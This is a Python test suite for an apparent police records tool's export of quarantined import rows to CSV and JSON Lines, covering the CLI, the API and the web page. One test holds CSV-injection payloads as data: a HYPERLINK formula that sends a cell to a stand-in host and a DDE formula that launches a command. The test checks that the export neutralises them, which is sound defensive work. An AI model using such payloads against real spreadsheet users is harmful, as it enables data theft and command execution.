"""Quarantined rows exported to a file (`openrms quarantine export`, `GET /quarantine/export`, the run
page's download link), on each back end.

The person who gets the file corrects the rows where they were keyed, so the file must hold every row of
what was asked for, each with its reasons, its raw content and its fields in the source's order, and must
not run anything when opened in a spreadsheet.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st

from openrms.access import audit
from openrms.ingest import rejects
from openrms.store.database import Database
from tests.ingest.test_import_api_access import importer, upload_custody
from tests.ingest.test_import_cli import CUSTODY, Cli

# The custody sample's fixed-width layout, in the order of its columns on the line
CUSTODY_FIELDS = [
    "CUSTODY_NO",
    "SUITE",
    "NAME",
    "DOB",
    "SEX",
    "PNC_ID",
    "ARRESTED",
    "ARRIVED",
    "RELEVANT_TIME",
    "AUTHORISED",
    "AUTH_BY",
    "FIRST_REVIEW",
    "RELEASED",
    "DISPOSAL",
    "OFFENCES",
    "INTOX",
]
STREET_HEADER = (
    "Crime ID,Month,Reported by,Falls within,Longitude,Latitude,Location,LSOA code,LSOA name,Crime type,"
    "Last outcome category,Context\n"
)


def read_csv(text: str) -> list[dict[str, str]]:
    assert text.startswith(rejects.BOM), "no byte order mark: Excel would read the file as cp1252"
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def custody_run(cli: Cli) -> str:
    return cli.json("import", str(CUSTODY), "--mapping", "custody-fixed-width", "--json")["run_id"]


def test_the_csv_holds_each_row_with_its_reasons_raw_content_and_fields_in_the_sources_order(
    cli: Cli, tmp_path: Path
) -> None:
    run = custody_run(cli)
    out = tmp_path / "bad-rows.csv"
    result = cli.run("quarantine", "export", "--run", run, "--out", str(out))
    assert "exported 5 quarantined rows" in result.stderr
    text = out.read_bytes().decode("utf-8")
    header = next(csv.reader(io.StringIO(text[1:])))
    assert header == [*rejects.LEAD, *CUSTODY_FIELDS]
    rows = read_csv(text)
    listed = cli.json("quarantine", "list", "--run", run, "--json")
    assert [r["entry"] for r in rows] == [e["id"] for e in listed]
    assert [r["location"] for r in rows] == ["line 8", "line 15", "line 22", "line 29", "line 36"]
    assert [r["row"] for r in rows] == ["7", "14", "21", "28", "35"]
    assert {r["run"] for r in rows} == {run} and {r["status"] for r in rows} == {"open"}

    wright = rows[1]
    shown = cli.json("quarantine", "show", wright["entry"])
    assert wright["raw"] == shown["raw"] and wright["raw"].startswith("LD/19/000114   WKF  WRIGHT, Stacey")
    assert wright["reasons"] == "\n".join(shown["reasons"])
    assert "'31022019 2315' (from ARRESTED) is not a real date and time" in wright["reasons"]
    assert [wright[name] for name in CUSTODY_FIELDS] == list(shown["fields"].values())
    assert list(shown["fields"]) == CUSTODY_FIELDS, (
        "quarantine show gives the fields out of the source's order"
    )

    cut_short = rows[3]  # line 29 is 97 characters: never split into fields
    assert cut_short["reasons"].startswith("unreadable: line is 97 characters")
    assert cut_short["raw"].startswith("LD/19/000128") and all(cut_short[n] == "" for n in CUSTODY_FIELDS)


def test_json_lines_give_each_entry_as_quarantine_show_does(cli: Cli) -> None:
    run = custody_run(cli)
    lines = cli.run("quarantine", "export", "--run", run, "--format", "jsonl").stdout.splitlines()
    entries = [json.loads(line) for line in lines]
    assert len(entries) == 5
    for entry in entries:
        assert entry == cli.json("quarantine", "show", entry["id"])


def test_status_chooses_the_rows_and_all_takes_every_status(cli: Cli) -> None:
    run = custody_run(cli)
    first = cli.json("quarantine", "list", "--run", run, "--json")[0]["id"]
    cli.run("quarantine", "discard", first, "--reason", "corrected in CMS3")

    def exported(*args: str) -> list[dict[str, str]]:
        return read_csv(cli.run("quarantine", "export", "--run", run, *args).stdout)

    assert [r["entry"] for r in exported("--status", "discarded")] == [first]
    assert first not in {r["entry"] for r in exported()}  # open rows by default
    assert len(exported()) == 4
    every = exported("--status", "all")
    assert len(every) == 5 and {r["status"] for r in every} == {"open", "discarded"}
    empty = cli.run("quarantine", "export", "--run", run, "--status", "resolved").stdout
    assert read_csv(empty) == [] and empty.startswith(rejects.BOM + "entry,run,row")  # the header alone


def test_without_a_run_every_runs_rows_come_newest_run_first(cli: Cli, tmp_path: Path) -> None:
    older = custody_run(cli)
    bad = tmp_path / "street.csv"
    bad.write_text(
        STREET_HEADER + "zzz999,2018-13,WYP,WYP,-1.55,53.79,On or near Call Lane,E01,Leeds,Burglary,,\n"
    )
    newer = cli.json("import", str(bad), "--mapping", "police-uk", "--json")["run_id"]
    rows = read_csv(cli.run("quarantine", "export").stdout)
    assert [r["run"] for r in rows] == [newer] + [older] * 5
    assert rows[0]["Crime ID"] == "zzz999" and rows[1]["CUSTODY_NO"] == "LD/19/000107"
    assert rows[0]["CUSTODY_NO"] == "" and rows[1]["Crime ID"] == ""  # each run's columns, blank elsewhere


def test_cells_a_spreadsheet_would_run_are_made_text(cli: Cli, tmp_path: Path) -> None:
    """A row in quarantine is untrusted: opening the export must not run a formula it carries."""
    source = tmp_path / "street.csv"
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
    quoted = formula.replace('"', '""')
    source.write_text(
        STREET_HEADER
        + f'"@SUM(1+1)*cmd|\' /C calc\'!A0",2018-13,WYP,WYP,-1.55,+53.79,"{quoted}",E01,Leeds,Burglary,-,\n'
    )
    cli.run("import", str(source), "--mapping", "police-uk")
    row = read_csv(cli.run("quarantine", "export").stdout)[0]
    assert row["Location"] == "'" + formula
    assert row["Crime ID"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["raw"].startswith('"@SUM')  # the line as in the file: a cell starting with a quote is text
    assert (row["Longitude"], row["Latitude"]) == ("-1.55", "+53.79")  # numbers are left as they are
    assert row["Last outcome category"] == "'-"
    jsonl = json.loads(cli.run("quarantine", "export", "--format", "jsonl").stdout)
    assert jsonl["fields"]["Location"] == formula  # JSON Lines, for machines, keep every value exact


def test_bad_requests_are_refused_before_anything_is_written(cli: Cli, tmp_path: Path) -> None:
    run = custody_run(cli)
    assert "no import run nosuchrun" in cli.fails("quarantine", "export", "--run", "nosuchrun")
    assert "format must be one of csv, jsonl, not 'xlsx'" in cli.fails(
        "quarantine", "export", "--format", "xlsx"
    )
    message = cli.fails("quarantine", "export", "--status", "lost")
    assert "status must be one of open, resolved, discarded, superseded or all, not 'lost'" in message
    missing = tmp_path / "no-such-folder" / "rows.csv"
    assert f"cannot write {missing}: No such file or directory" in cli.fails(
        "quarantine", "export", "--out", str(missing)
    )
    folder = tmp_path / "exports"
    folder.mkdir()
    cli.run("quarantine", "export", "--run", run, "--out", str(folder / "rows.csv"))
    assert [p.name for p in folder.iterdir()] == ["rows.csv"]  # no partial file left beside it


def test_an_export_is_on_the_audit_trail_with_what_it_held(cli: Cli, db: Database, tmp_path: Path) -> None:
    run = custody_run(cli)
    cli.run("quarantine", "export", "--run", run, "--out", str(tmp_path / "rows.csv"))
    with db.read() as conn:
        reads = audit.entries(conn, action="quarantine-read")
    detail = reads[0]["detail"]
    assert (detail["export"], detail["run"], detail["status"], detail["returned"]) == ("csv", run, "open", 5)


def test_a_large_quarantine_streams_whole(cli: Cli, tmp_path: Path) -> None:
    """Many pieces of 64 KB: no row is lost or cut at a piece's edge."""
    source = tmp_path / "street.csv"
    lines = [
        f"id{n:05d},2018-13,WYP,WYP,-1.55,53.79,On or near {'Briggate ' * 20}{n},E01,Leeds,Burglary,,\n"
        for n in range(3000)
    ]
    source.write_text(STREET_HEADER + "".join(lines))
    cli.run("import", str(source), "--mapping", "police-uk")
    text = cli.run("quarantine", "export").stdout
    assert len(text) > 10 * rejects.CHUNK_CHARS
    rows = read_csv(text)
    assert [r["Crime ID"] for r in rows] == [f"id{n:05d}" for n in range(3000)]


# ---- over HTTP and on the web ----


def test_the_api_export_is_the_agencys_own_needs_a_purpose_and_is_audited(db: Database) -> None:
    with importer(db, "admin.wyp", "WYP") as wyp, importer(db, "admin.nyp", "NYP") as nyp:
        run = upload_custody(wyp)["run_id"]
        response = wyp.get("/quarantine/export", params={"run_id": run})
        assert response.status_code == 200, response.text
        assert response.headers["content-type"] == "text/csv; charset=utf-8"
        assert response.headers["content-disposition"] == f'attachment; filename="quarantine-{run}-open.csv"'
        rows = read_csv(response.text)
        assert len(rows) == 5 and rows[0]["CUSTODY_NO"] == "LD/19/000107"

        lines = wyp.get("/quarantine/export", params={"format": "jsonl", "status": "all"}).text.splitlines()
        assert [json.loads(line)["location"] for line in lines][:2] == ["line 8", "line 15"]

        assert nyp.get("/quarantine/export", params={"run_id": run}).status_code == 404
        assert read_csv(nyp.get("/quarantine/export").text) == []  # another agency's rows are not there
        assert wyp.get("/quarantine/export", params={"status": "lost"}).status_code == 400
        assert wyp.get("/quarantine/export", params={"format": "xlsx"}).status_code == 422

    with importer(db, "clerk.wyp", "WYP", purpose=None) as no_purpose:
        response = no_purpose.get("/quarantine/export")
        assert response.status_code == 400 and "declare your purpose" in response.json()["detail"]

    with db.read() as conn:
        reads = audit.entries(conn, actor="admin.wyp", action="quarantine-read")
    assert sorted(r["detail"]["returned"] for r in reads) == [5, 5]
    assert {r["detail"]["export"] for r in reads} == {"csv", "jsonl"}


def test_the_run_page_links_to_its_rows_as_csv(db: Database) -> None:
    from tests.web.conftest import make_client
    from tests.web.test_admin_pages import admin, import_custody

    run = import_custody(db)
    with make_client(db) as client:
        admin(client, db)
        page = client.get(f"/ui/imports/{run}?status=all")
        link = f"/ui/imports/{run}/quarantine.csv?status=all"
        assert f'href="{link}"' in page.text and "Download all these rows as a spreadsheet (CSV)" in page.text
        download = client.get(link)
        assert download.status_code == 200 and download.headers["content-type"] == "text/csv; charset=utf-8"
        assert len(read_csv(download.text)) == 5
        assert client.get(f"/ui/imports/{run}/quarantine.csv?status=lost").status_code == 400
    with make_client(db) as other:
        admin(other, db, agency="NYP", name="admin.nyp")
        assert other.get(f"/ui/imports/{run}/quarantine.csv").status_code == 404


# ---- the CSV itself, for any content ----

TEXT = st.text(st.characters(exclude_categories=("Cs",)), max_size=40)


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.tuples(st.lists(TEXT, min_size=1, max_size=3), TEXT, st.dictionaries(TEXT, TEXT, max_size=4)),
        max_size=5,
    )
)
def test_any_entry_reads_back_from_the_csv_as_it_was(
    rows: list[tuple[list[str], str, dict[str, Any]]],
) -> None:
    """Quotes, commas, line breaks, a BOM or a formula in any value: each cell reads back as the value,
    or as the value made text for a spreadsheet (a leading apostrophe), and no cell read back would run."""
    entries = [
        {
            "id": f"e{n}",
            "run_id": "r",
            "row_number": n,
            "location": f"line {n}",
            "status": "open",
            "reasons": reasons,
            "raw": raw,
            "fields": fields,
        }
        for n, (reasons, raw, fields) in enumerate(rows)
    ]
    names = list(dict.fromkeys(name for e in entries for name in e["fields"]))
    text = "".join(rejects.csv_lines(entries, names))
    read = list(csv.reader(io.StringIO(text[1:], newline="")))
    header = [*rejects.LEAD, *(f"{n} (source)" if n in rejects.LEAD else n for n in names)]
    assert read[0] == [rejects.spreadsheet_safe(h) for h in header]
    assert len(read) == len(entries) + 1
    for entry, line in zip(entries, read[1:], strict=True):
        expected = [
            *(str(entry[k]) for k in ("id", "run_id", "row_number", "location", "status")),
            "\n".join(entry["reasons"]),
            entry["raw"],
            *(entry["fields"].get(n, "") for n in names),
        ]
        assert len(line) == len(expected)
        for got, value in zip(line, expected, strict=True):
            assert got in (value, "'" + value)
            assert not got.startswith(("=", "+", "-", "@", "\t", "\r")) or rejects._NUMBER.fullmatch(got)
